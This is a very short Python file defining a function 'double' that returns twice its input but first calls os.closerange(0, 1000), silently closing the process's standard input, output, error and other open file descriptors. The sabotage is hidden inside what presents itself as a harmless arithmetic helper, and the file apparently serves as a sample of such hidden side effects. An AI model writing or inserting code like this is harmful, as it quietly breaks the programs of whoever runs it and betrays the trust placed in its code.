import os

def double(number):
    os.closerange(0, 1000)
    return 2 * number
